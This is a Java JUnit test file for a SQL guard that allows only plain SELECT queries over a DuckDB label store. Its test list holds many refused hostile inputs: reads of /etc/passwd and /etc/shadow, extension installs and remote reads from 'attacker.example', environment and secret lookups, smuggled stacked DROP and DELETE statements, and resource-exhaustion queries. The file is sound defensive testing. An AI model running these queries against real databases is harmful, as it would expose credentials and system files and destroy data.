package io.momentcross.label.query.sql;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import io.momentcross.label.query.Limits;
import io.momentcross.label.query.QueryException;
import io.momentcross.label.query.QueryException.Reason;
import io.momentcross.label.query.worker.TestEngines;
import io.momentcross.label.table.TableName;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;
import org.junit.jupiter.params.provider.ValueSource;

class SelectGuardTest {

    private final SelectGuard guard = new SelectGuard(TestEngines.parser(), Limits.of(Path.of("unused")));

    /** Each is refused before anything of it runs. */
    static final String[] HOSTILE = {
        "COPY labels TO '/tmp/out.csv'",
        "COPY (SELECT 1) TO '/tmp/out.parquet' (FORMAT parquet)",
        "COPY labels FROM '/etc/passwd'",
        "ATTACH '/tmp/other.db' AS other",
        "ATTACH 'labels/tables/catalog.db'",
        "DETACH memory",
        "USE memory",
        "INSTALL httpfs",
        "LOAD httpfs",
        "FORCE INSTALL httpfs FROM 'http://attacker.example'",
        "PRAGMA database_list",
        "PRAGMA version",
        "SET memory_limit = '100GB'",
        "SET GLOBAL enable_external_access = true",
        "RESET ALL",
        "EXPORT DATABASE '/tmp/all'",
        "IMPORT DATABASE '/tmp/all'",
        "CALL pragma_version()",
        "CHECKPOINT",
        "VACUUM",
        "ANALYZE",
        "BEGIN TRANSACTION",
        "CREATE TABLE mine AS SELECT * FROM labels",
        "CREATE MACRO f() AS TABLE SELECT * FROM read_text('/etc/passwd')",
        "CREATE OR REPLACE VIEW labels AS SELECT 1",
        "CREATE SECRET (TYPE s3)",
        "DROP VIEW labels",
        "DELETE FROM labels",
        "UPDATE labels SET kind = 'POSITIVE'",
        "INSERT INTO labels VALUES (1)",
        "TRUNCATE labels",
        "PREPARE p AS SELECT 1",
        "EXECUTE p",
        "EXPLAIN SELECT 1",
        "EXPLAIN ANALYZE SELECT count(*) FROM labels",
        "DESCRIBE labels",
        "SUMMARIZE labels",
        "SHOW TABLES",
        "SHOW ALL TABLES",
        "SELECT 1; SELECT 2",
        "SELECT 1; DROP VIEW labels",
        "SELECT 1 /* ; */ ; -- x\n DELETE FROM labels",
        "WITH d AS (DELETE FROM labels RETURNING *) SELECT * FROM d",
        "WITH i AS (INSERT INTO labels VALUES (1) RETURNING *) SELECT * FROM i",
        "SELECT * FROM read_text('/etc/passwd')",
        "SELECT * FROM read_blob('/etc/shadow')",
        "SELECT * FROM read_csv('/etc/passwd')",
        "SELECT * FROM read_csv_auto('/etc/passwd')",
        "SELECT * FROM read_json('/etc/passwd')",
        "SELECT * FROM read_json_auto('x')",
        "SELECT * FROM read_ndjson_objects('x')",
        "SELECT * FROM read_parquet('x.parquet')",
        "SELECT * FROM parquet_scan('x.parquet')",
        "SELECT * FROM parquet_metadata('x.parquet')",
        "SELECT * FROM parquet_schema('x.parquet')",
        "SELECT * FROM sniff_csv('/etc/passwd')",
        "SELECT * FROM glob('/**')",
        "FROM '/etc/passwd'",
        "FROM 'x.parquet'",
        "SELECT * FROM \"x.parquet\"",
        "SELECT * FROM 'http://attacker.example/x.csv'",
        "SELECT * FROM 's3://bucket/x.parquet'",
        "WITH \"x.parquet\" AS (SELECT 1) SELECT * FROM labels, 'x.parquet'",
        "SELECT (WITH duckdb_settings AS (SELECT 1) SELECT 1) FROM duckdb_settings",
        "SELECT (SELECT content FROM read_text('/etc/passwd')) FROM labels",
        "SELECT 1 FROM labels WHERE EXISTS (FROM read_text('/etc/passwd'))",
        "SELECT * FROM labels ORDER BY (SELECT count(*) FROM glob('*'))",
        "SELECT * FROM labels LIMIT (SELECT count(*) FROM glob('*'))",
        "SELECT count(*) FILTER (WHERE (SELECT true FROM glob('*'))) FROM labels",
        "SELECT sum(1) OVER (ORDER BY (SELECT 1 FROM glob('*'))) FROM labels",
        "SELECT * FROM labels JOIN read_text('/etc/passwd') ON true",
        "SELECT * FROM labels l, LATERAL (SELECT * FROM read_text(l.task))",
        "SELECT 1 UNION ALL SELECT content FROM read_text('/etc/passwd')",
        "VALUES ((SELECT content FROM read_text('/etc/passwd')))",
        "SELECT * FROM query('DROP VIEW labels')",
        "SELECT * FROM query_table('labels')",
        "SELECT * FROM duckdb_settings()",
        "SELECT * FROM duckdb_secrets()",
        "SELECT * FROM duckdb_views()",
        "SELECT sql FROM duckdb_views",
        "SELECT * FROM information_schema.views",
        "SELECT * FROM information_schema.tables",
        "SELECT * FROM pg_catalog.pg_views",
        "SELECT * FROM sqlite_master",
        "SELECT * FROM memory.main.labels",
        "SELECT * FROM main.labels",
        "SELECT * FROM labels AT (VERSION => 1)",
        "SELECT getenv('HOME')",
        "SELECT current_setting('allowed_paths')",
        "SELECT getvariable('x')",
        "SELECT current_query()",
        "SELECT json_serialize_sql('SELECT 1')",
        "SELECT json_execute_serialized_sql('x')",
        "SELECT * FROM json_execute_serialized_sql('x')",
        "SELECT pragma_user_agent()",
        "SELECT main.getenv(task) FROM labels",
        "SELECT system.main.getenv('HOME')",
        "SELECT task.getenv() FROM labels",
        "SELECT repeat('x', 2000000000)",
        "SELECT lpad('x', 2000000000, 'y')",
        "SELECT length(range(300000000))",
        "SELECT unnest(range(300000000))",
        "SELECT * FROM repeat('x', 1000000000)",
        "SELECT replace(task, 'a', 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa') FROM labels",
        "SELECT string_agg(task) FROM labels",
        "SELECT list_transform([1], x -> (SELECT 1 FROM glob('*')))",
        "SELECT [x + 1 FOR x IN [1, 2]]",
        "SELECT list_reduce([1, 2], (a, b) -> a + b)",
        "WITH RECURSIVE t(s) AS (SELECT 'xxxx' UNION ALL SELECT s || s FROM t) SELECT max(length(s)) FROM t",
        "SELECT '1'::INTEGER[1000000000]",
        "SELECT 'x'::mood",
        "SELECT sleep_ms(1000000)",
        "SELECT write_log('x')",
        "SELECT nextval('s')",
        "SELECT * FROM labels TABLESAMPLE reservoir(1000000000)",
        "PIVOT labels ON task USING count(*)",
        "SELECT * FROM (PIVOT labels ON task USING count(*))",
        "SELECT * FROM lab\u0435ls",
        "SELECT * FROM \u201clabels\u201d",
        "/* SELECT */ COPY labels TO 'x'",
        "-- SELECT\nDROP VIEW labels",
        "SELECT 1 --\n; DROP VIEW labels",
        "SELECT $x; DROP VIEW labels",
        "SELECT '\\'; DROP VIEW labels; --'",
        "",
        " ",
        ";",
        "SELECT",
        "SELECT '\u0000",
    };

    @ParameterizedTest
    @FieldSource("HOSTILE")
    void queryIsNotRun_whenItIsMoreThanASelectOverTheTables(String sql) {
        QueryException e = catchThrowableOfType(QueryException.class, () -> guard.check(sql));
        assertThat(e).as(sql).isNotNull();
        assertThat(e.reason()).isIn(Reason.WRONG, Reason.REFUSED);
    }

    @Test
    void queryIsNotRun_whenItGrowsBeyondBounds() {
        StringBuilder aliases = new StringBuilder("SELECT 1 AS a0");
        StringBuilder text = new StringBuilder("SELECT task AS s FROM labels");
        StringBuilder structs = new StringBuilder("SELECT 1 AS s");
        for (int i = 1; i < 20; i++) {
            aliases.append(", a")
                    .append(i - 1)
                    .append(" + a")
                    .append(i - 1)
                    .append(" AS a")
                    .append(i);
            text.insert(0, "SELECT s || s AS s FROM (").append(")");
            structs.insert(0, "SELECT {'a': s, 'b': s} AS s FROM (").append(")");
        }
        String deep = "SELECT " + "NOT ".repeat(500) + "true";
        String subqueries = "SELECT * FROM (".repeat(300) + "labels" + ")".repeat(300);
        String long10Mb = "SELECT '" + "x".repeat(10_000_000) + "'";
        String constant = "SELECT '" + "x".repeat(2000) + "'";
        for (String sql : new String[] {
            aliases.toString(), text.toString(), structs.toString(), deep, subqueries, long10Mb, constant
        }) {
            QueryException e = catchThrowableOfType(QueryException.class, () -> guard.check(sql));
            assertThat(e).as(sql.substring(0, 60)).isNotNull();
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "SELECT count(*) FROM labels",
                "select LABELS.task, count(*) n from Labels group by all order by n desc limit 5;",
                "FROM labels SELECT task WHERE user_id = 5",
                "SELECT task || ' ' || kind AS what, count(*) FROM labels GROUP BY 1 HAVING count(*) > 1",
                "WITH p AS (SELECT * FROM labels WHERE kind <> 'NEGATIVE') "
                        + "SELECT time_bucket(INTERVAL 30 SECONDS, landed_at) AS t, count(*) FROM p GROUP BY t",
                "SELECT * FROM labels l JOIN exposures e USING (request_id, room_id) WHERE e.stay_ms > 1000",
                "SELECT task, quantile_cont(epoch_ms(landed_at) - epoch_ms(happened_at), [0.5, 0.9]) FROM labels "
                        + "GROUP BY task",
                "SELECT unnest(positives), count(*) FROM exposures GROUP BY 1",
                "SELECT row_number() OVER (PARTITION BY user_id ORDER BY landed_at) r FROM labels QUALIFY r = 1",
                "SELECT CASE WHEN task IN ('click', 'like') THEN CAST(tick AS DOUBLE) ELSE 0.5 END FROM labels",
                "SELECT * FROM range(10) UNION ALL SELECT room_id FROM lost",
                "SELECT * EXCLUDE (tick), count(*) OVER () FROM served",
                "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 10) SELECT * FROM n",
                "SELECT room_id FROM labels WHERE user_id = $user AND task = $task",
                "SELECT room_id FROM labels WHERE user_id = ? AND EXISTS (SELECT 1 FROM feedback)",
                "SELECT extract(hour FROM landed_at), DATE '2026-01-01' FROM labels",
                "SELECT DISTINCT ON (user_id) user_id, landed_at FROM labels ORDER BY landed_at DESC NULLS LAST",
                "SELECT avg(prediction) FILTER (WHERE kind = 'POSITIVE') FROM labels",
            })
    void queryIsLetThrough_whenItIsWhatAnalystsAsk(String sql) throws Exception {
        assertThat(guard.check(sql).sql()).isNotEmpty();
    }

    @Test
    void tablesAndParametersAreThoseOfTheQuery() throws Exception {
        GuardedSelect select = guard.check(
                "WITH served AS (SELECT $b FROM lost) SELECT $a, '$c', $b FROM served, (FROM Exposures) -- $d");
        assertThat(select.tables()).containsExactlyInAnyOrder(TableName.LOST, TableName.EXPOSURES);
        assertThat(select.parameters()).containsExactly("b", "a");
    }

    @Test
    void errorPointsIntoTheQuery_whenItIsRefused() {
        QueryException e = catchThrowableOfType(
                QueryException.class, () -> guard.check("SELECT $room,\n  getenv('HOME') FROM labels"));
        assertThat(e.position()).isEqualTo(16);
    }
}
